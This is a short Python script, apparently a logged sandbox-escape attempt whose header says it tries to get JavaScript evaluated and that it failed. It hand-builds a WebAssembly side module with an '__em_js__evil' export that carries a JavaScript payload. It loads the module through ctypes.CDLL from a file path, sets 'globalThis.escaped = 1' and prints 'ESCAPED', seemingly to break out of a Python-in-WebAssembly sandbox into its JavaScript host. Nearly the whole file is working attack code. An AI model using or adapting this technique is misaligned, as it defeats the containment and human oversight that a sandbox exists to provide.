# tries: to have JavaScript evaluated that a library of its own carries
# ends: failed
import ctypes
def leb(n):
    o=b''
    while True:
        b=n&0x7f; n>>=7
        o+=bytes([b|(0x80 if n else 0)])
        if not n: return o
def sec(i,p): return bytes([i])+leb(len(p))+p
def s(t): t=t.encode(); return leb(len(t))+t
def side(js):
    data=("()<::>{};"+js).encode()+b"\0"
    meminfo=leb(len(data))+leb(0)+leb(0)+leb(0)
    dylink=s("dylink.0")+bytes([1])+leb(len(meminfo))+meminfo
    imports=leb(2)+s("env")+s("memory")+b"\x02\x00\x00"+s("env")+s("__memory_base")+b"\x03\x7f\x00"
    globs=leb(1)+b"\x7f\x00\x41\x00\x0b"
    exports=leb(1)+s("__em_js__evil")+b"\x03"+leb(1)
    dat=leb(1)+b"\x00\x23\x00\x0b"+leb(len(data))+data
    return b"\0asm\1\0\0\0"+sec(0,dylink)+sec(2,imports)+sec(6,globs)+sec(7,exports)+sec(11,dat)
n=0
def js(code):
    global n
    n+=1
    p=f"/home/reader/e{n}.so"
    open(p,"wb").write(side(code))
    ctypes.CDLL(p)
js("globalThis.escaped = 1")
print("ESCAPED")
